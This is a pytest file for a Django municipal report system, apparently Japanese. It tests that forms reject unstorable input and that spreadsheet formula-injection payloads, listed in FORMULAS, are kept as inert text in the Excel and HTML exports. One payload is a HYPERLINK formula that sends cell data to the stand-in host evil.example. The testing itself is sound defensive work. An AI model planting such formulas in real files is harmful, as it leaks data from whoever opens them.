"""The issue's payloads through the forms: refused with a Japanese message where they cannot be stored, kept as
text where they can, and every format of the report still drawn, with no formula in the Excel file."""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from django.contrib.auth.models import AbstractBaseUser
from django.test import Client
from django_scopes import scope

from shinchoku.documents.render import FORMATS, render_report
from shinchoku.plans.models import Project, ProjectReport
from shinchoku.tenancy.models import Municipality

from .test_project_edit import edit_url
from .test_project_edit import form as project_form
from .test_report_form import LINE, complete_form, url

Login = Callable[[AbstractBaseUser], Client]
ProjectNamed = Callable[[str], Project]
ReportOf = Callable[..., ProjectReport]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\t=2+2",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("results", ["取組\x00です"], "使えない文字"),
        ("results", ["取組\x1bです"], "使えない文字"),
        ("challenges", ["課題\ufffeです"], "使えない文字"),
        ("comment", "あ" * 18_000, "文字以内"),
        ("results", ["い" * 3_300], "文字以内"),
    ],
    ids=["nul", "escape", "non-character", "long-comment", "long-item"],
)
def test_it_refuses_what_cannot_be_stored_and_saves_nothing(
    field: str, value: Any, message: str, login: Login, gina: AbstractBaseUser, city: Municipality,
    project_named: ProjectNamed, year_2024: Any, report_of: ReportOf,
) -> None:
    report = report_of(LINE)
    response = login(gina).post(url(city, project_named(LINE)), complete_form(city, report, **{field: value}))
    assert response.status_code == 400
    assert message in response.content.decode()
    assert report_of(LINE).version == report.version


@pytest.mark.parametrize("typed", ["1e40", "NaN", "Infinity", "9" * 5000, "99999999999999999999"])
def test_it_refuses_numbers_no_database_column_holds(
    typed: str, login: Login, gina: AbstractBaseUser, city: Municipality, project_named: ProjectNamed,
    year_2024: Any, report_of: ReportOf,
) -> None:
    report = report_of(LINE)
    data = complete_form(city, report)
    data[next(k for k in data if k.startswith("actual-"))] = typed
    response = login(gina).post(url(city, project_named(LINE)), data)
    assert response.status_code == 400
    assert report_of(LINE).version == report.version


def test_it_keeps_formulas_as_text_in_every_format(
    login: Login, gina: AbstractBaseUser, alice: AbstractBaseUser, city: Municipality, project_named: ProjectNamed,
    year_2024: Any, report_of: ReportOf,
) -> None:
    line = project_named(LINE)
    report = report_of(LINE)
    assert login(gina).post(url(city, line), complete_form(
        city, report, results=FORMULAS[:3], challenges=FORMULAS[3:], next_year=[FORMULAS[0]], comment=FORMULAS[1],
    )).status_code == 302
    with scope(municipality=city):
        fresh = Project.objects.prefetch_related("department_links__department", "tags").get(pk=line.pk)
    assert login(alice).post(
        edit_url(city, line), project_form(fresh, city, overview=FORMULAS[0], vision=FORMULAS[2])
    ).status_code == 302

    drawn = {}
    for format in FORMATS:
        data, _content_type, _ = render_report(municipality=city, fiscal_year=2024, format=format)
        assert data, format
        drawn[format] = data
    workbook = openpyxl.load_workbook(io.BytesIO(drawn["xlsx"]))
    formulas = [
        f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
        for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert formulas == []
    texts = {cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row}
    assert '=HYPERLINK("http://evil.example/?x="&A1,"click")' in texts  # kept, as text
    assert "evil.example" in drawn["html"].decode()  # shown, escaped, never a link
    assert 'href="http://evil.example' not in drawn["html"].decode()
